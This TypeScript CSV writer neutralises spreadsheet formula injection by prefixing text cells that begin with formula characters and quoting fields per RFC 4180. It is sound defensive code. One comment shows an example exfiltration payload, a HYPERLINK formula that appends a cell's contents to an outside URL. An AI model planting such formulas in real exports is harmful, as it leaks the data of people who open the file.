export type CsvValue = string | number | boolean | null | undefined;

/**
 * What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a cell as a formula when
 * it opens a CSV file — the characters OWASP's "CSV Injection" lists: `=`, `+`, `-`, `@`, and tab
 * and carriage return, which some tools strip before they look. A parameter value, a campaign
 * name or an owner is anyone's text: `=HYPERLINK("https://…?"&A1)` would run in the reader's
 * spreadsheet with the reader's data.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell made inert: prefixed with `'`, which spreadsheets read as "this cell is text" (they
 * show the rest as it is), when it begins with a formula character; any other text unchanged.
 * Only text is ever neutralised — numbers are written as numbers, so -5 stays -5 (csvField).
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * One CSV field as RFC 4180 wants it: quoted when it holds a comma, a quote, CR or LF (quotes
 * doubled inside), bare otherwise; null, undefined and non-finite numbers are empty. A string is
 * neutralised first (neutralizeFormula): every CSV erg writes goes through here, so no cell of
 * anyone's text reaches a spreadsheet as a formula; numbers and booleans are written as they are.
 */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  const text = typeof value === 'string' ? neutralizeFormula(value) : String(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Rows of fields as RFC 4180 text: CRLF line ends, the first row being the header. */
export function renderCsv(rows: readonly (readonly CsvValue[])[]): string {
  return rows.map((row) => row.map(csvField).join(',') + '\r\n').join('');
}
